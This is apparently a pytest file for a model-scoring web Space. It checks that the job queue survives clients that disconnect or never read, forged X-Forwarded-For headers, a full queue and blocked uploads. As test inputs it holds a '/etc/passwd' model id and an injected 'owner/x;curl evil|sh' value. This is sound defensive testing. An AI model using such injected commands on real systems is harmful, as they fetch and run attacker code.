"""The Space's queue under careless and hostile clients, over HTTP and in a real browser
(the server and the page helpers: tests/space_pages.py).

A visitor who closes the page, presses Stop, or never reads its updates frees the queue (the
job's process and its data-loader workers are gone from the process table, the next visitor
is served); a client cannot queue a second job, whatever X-Forwarded-For it writes; a refused
model id is refused before the queue while a job runs; a page loads with the queue full;
uploads are refused.
"""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request

import pytest

from tests.assertions import live_group
from tests.space_pages import (
    WIDTH,
    choose_task,
    click_score_and_see_the_status,
    open_page,
    shot,
    visible,
    wait_done,
    wait_for,
)

pytestmark = pytest.mark.slow  # a Space server and a browser


@pytest.fixture(scope="module")
def busy_server(launch, in9_release):
    """A Space with a queue of one, where a client that reads nothing for 5 s is dropped and
    noise scores all 18 images (a job of minutes) with one decode worker, so that the check
    that a stopped job leaves no worker behind has one to find (left to the run, an idle
    2-core host decodes in the job's own process and starts none)."""
    return launch(
        BGBENCH_SPACE_DATASETS=f"in9-local={in9_release}",
        BGBENCH_SPACE_QUEUE="1",
        BGBENCH_SPACE_UNREAD_SECONDS="5",
        BGBENCH_SPACE_NOISE_IMAGES="0",
        BGBENCH_SPACE_WORKERS="1",
    )


def _noise(dataset: str = "in9-local") -> list:
    return [
        "tf_efficientnet_lite0",
        dataset,
        ["original"],
        False,
        "in9",
        "noise",
        "auto",
        "likelihood",
    ]


def _evaluate() -> list:
    return [
        "tf_efficientnet_lite0",
        "in9-local",
        ["original"],
        False,
        "in9",
        "evaluate",
        "auto",
        "likelihood",
    ]


def _running_job(server, workers: bool = True) -> tuple[int, set[int]]:
    """The running job's pid (its process group) and the processes of that group seen --
    with ``workers``, once its data-loader workers have started too (about 10 s in)."""
    wait_for(lambda: server.jobs(), 120, "the job started")
    (job,) = server.jobs()
    seen: set[int] = set(live_group(job))

    def workers_started() -> bool:
        seen.update(live_group(job))
        return len(seen) > 1

    if workers:
        wait_for(workers_started, 120, "the job's data-loader workers started")
    return job, seen


def _none_left(server, job: int, seen: set[int], why: str) -> None:
    """No process of the job's group -- the job, its workers -- is left: checked in the
    process table (a worker the job started would otherwise live on, re-parented)."""
    wait_for(lambda: not live_group(job), 60, f"{why}: every process of the job ended")
    assert not [p for p in seen if p in live_group(job)]


def test_a_client_that_never_reads_frees_the_queue(busy_server):
    """A script queues a long job and never reads its updates: the job -- with its workers
    -- is stopped after the short unread limit, and the next visitor's job runs."""
    status, body = busy_server.join("score", _noise(), "127.0.0.11", "deaf-client")
    assert status == 200, body
    job, seen = _running_job(busy_server, workers=False)  # stopped within seconds
    wait_for(lambda: not busy_server.jobs(), 120, "the unread job was stopped")
    _none_left(busy_server, job, seen, "unread")
    status, body = busy_server.join("score", _evaluate(), "127.0.0.12", "next-visitor")
    assert status == 200, body
    wait_for(lambda: busy_server.jobs(), 120, "the next visitor's job started")


def test_a_visitor_who_closes_the_page_frees_the_queue(busy_server, browser):
    from playwright.sync_api import expect

    wait_for(lambda: not busy_server.jobs(), 300, "the server is idle")
    page = open_page(browser, busy_server.url)
    choose_task(page, "noise")
    click_score_and_see_the_status(page)
    job, seen = _running_job(busy_server)
    page.close()  # the visitor leaves mid-job
    wait_for(lambda: job not in busy_server.jobs(), 60, "the job's process was killed")
    _none_left(busy_server, job, seen, "page closed")
    # the next visitor is served by the freed slot: no job of the first visitor's is left to
    # wait for (checked above), and the new one runs to the end
    page = open_page(browser, busy_server.url)
    click_score_and_see_the_status(page)
    wait_done(page)
    expect(page.locator("#report")).to_contain_text("BG-GAP")
    page.close()


def test_stop_cancels_the_job(busy_server, browser):
    from playwright.sync_api import expect

    wait_for(lambda: not busy_server.jobs(), 300, "the server is idle")
    page = open_page(browser, busy_server.url)
    choose_task(page, "noise")
    click_score_and_see_the_status(page)
    job, seen = _running_job(busy_server)
    page.get_by_role("button", name="Stop").click()
    # as the other Stop check below: on a loaded machine (the CI's two test workers beside
    # the job's own two threads) the page's update took longer than Playwright's 5 s default
    expect(page.locator("#job-status")).to_contain_text("Stopped", timeout=30_000)
    expect(page.locator("#score-button")).to_be_enabled(timeout=30_000)
    wait_for(lambda: not busy_server.jobs(), 60, "the stopped job's process was killed")
    _none_left(busy_server, job, seen, "Stop")
    page.close()


def test_one_job_per_client_and_a_full_queue_still_loads_the_page(busy_server, browser):
    from playwright.sync_api import expect

    wait_for(lambda: not busy_server.jobs(), 300, "the server is idle")
    page = open_page(browser, busy_server.url)  # a reader, so the running job is not dropped
    choose_task(page, "noise")
    click_score_and_see_the_status(page)
    wait_for(lambda: busy_server.jobs(), 120, "the job started")
    # the same client cannot queue another, whatever X-Forwarded-For it writes
    for n, forged in enumerate(("", "10.0.0.3", "10.0.0.4, 10.0.0.5")):
        status, body = busy_server.join("score", _noise(), "127.0.0.1", f"tab-{n}", forged)
        assert status == 422, (forged, body)
        assert "You already have a scoring job waiting or running" in json.dumps(body)
    # a model id the checks refuse is refused at once, before the queue, while a job runs
    bad = ["/etc/passwd", "in9-local", ["original"], False, "in9", "evaluate", "auto", "likelihood"]
    status, body = busy_server.join("score", bad, "127.0.0.13", "bad-id")
    assert status == 422 and "paths and links are refused" in json.dumps(body), body
    assert len(busy_server.jobs()) == 1
    # another client fills the queue (size 1); a third is turned away
    assert busy_server.join("score", _evaluate(), "127.0.0.14", "filler")[0] == 200
    assert busy_server.join("score", _evaluate(), "127.0.0.15", "late")[0] == 503
    # a new visitor's page still loads: the Explore list and the leaderboard are there
    other = browser.new_page(viewport={"width": WIDTH, "height": 1000})
    other.goto(busy_server.url)
    other.get_by_role("tab", name="Leaderboard").click()
    expect(other.locator("#leaderboard")).to_contain_text("published", timeout=30_000)
    other.get_by_role("tab", name="Explore").click()
    expect(visible(other, "Image (class · id)")).to_have_value(re.compile(r" · "), timeout=30_000)
    assert "busy" not in other.locator("body").inner_text().lower()
    shot(other, busy_server.folder, "space_queue_full.png")
    # a bad model id typed on a page is refused at once, while the job runs and the queue
    # is full: it never waits for its turn
    other.get_by_role("tab", name="Score a model").click()
    other.locator("#score-model textarea").fill("owner/x;curl evil|sh")
    other.get_by_role("button", name="Score", exact=True).click()
    expect(other.locator("#job-status")).to_contain_text("Stopped", timeout=30_000)
    expect(other.locator("#job-status")).to_contain_text("only letters, digits")
    assert len(busy_server.jobs()) == 1
    shot(other, busy_server.folder, "space_refused_while_busy.png")
    other.close()
    page.get_by_role("button", name="Stop").click()
    page.close()


@pytest.fixture(scope="module")
def queue_server(launch, in9_release):
    """A Space with one job at a time and no per-client cap, so that a second page of this
    machine waits in line behind the first page's long noise job."""
    return launch(
        BGBENCH_SPACE_DATASETS=f"in9-local={in9_release}",
        BGBENCH_SPACE_JOBS_PER_CLIENT="0",
        BGBENCH_SPACE_NOISE_IMAGES="0",
    )


def test_a_queued_visitors_line_is_redrawn_until_the_job_starts(queue_server, browser):
    """A visitor whose job waits reads its place and how long the running job has run, and
    the line is redrawn while it waits (the running job's time grows); when the job ahead is
    stopped, the waiting job starts and its line shows its own progress."""
    from playwright.sync_api import expect

    first = open_page(browser, queue_server.url)
    choose_task(first, "noise")
    click_score_and_see_the_status(first)
    wait_for(lambda: queue_server.jobs(), 120, "the first job started")
    second = open_page(browser, queue_server.url)
    status = second.locator("#job-status")
    second.get_by_role("button", name="Score", exact=True).click()
    expect(status).to_contain_text("your job is number 1 in line", timeout=30_000)
    ran = re.compile(r"The running job has run (\d+ s|\d+ min \d+ s)")
    expect(status).to_contain_text(ran, timeout=30_000)
    before = ran.search(status.inner_text()).group(1)
    expect(status).not_to_contain_text(f"has run {before};", timeout=30_000)  # redrawn
    assert "your job is number 1 in line" in status.inner_text()
    shot(second, queue_server.folder, "space_queued.png")
    first.get_by_role("button", name="Stop").click()
    expect(status).not_to_contain_text("Queued", timeout=60_000)
    expect(status).to_contain_text(re.compile("Now:|Done in"), timeout=60_000)
    second.get_by_role("button", name="Stop").click()
    first.close()
    second.close()


def test_uploads_are_refused(busy_server):
    """The Space takes no uploads: a small .html file is answered 413, and a 48 MB one is
    cut off while it is still being sent (413, or the connection closed on the sender)."""
    import uuid

    for name, size in (("page.html", 200), ("big.bin", 48 * 2**20)):
        boundary = uuid.uuid4().hex
        payload = b"<html>x</html>" * (size // 14 + 1)
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="files"; '
                f'filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n'
            ).encode()
            + payload[:size]
            + f"\r\n--{boundary}--\r\n".encode()
        )
        request = urllib.request.Request(
            busy_server.url + "gradio_api/upload",
            data=body,
            headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
        )
        with pytest.raises(urllib.error.URLError) as info:
            urllib.request.urlopen(request, timeout=60)
        if isinstance(info.value, urllib.error.HTTPError):
            assert info.value.code == 413, name
        else:  # refused before the sender finished
            assert name == "big.bin" and isinstance(info.value.reason, ConnectionError)
    # nothing of either was kept
    kept = [p.name for p in busy_server.folder.rglob("*") if p.name in ("page.html", "big.bin")]
    assert kept == []
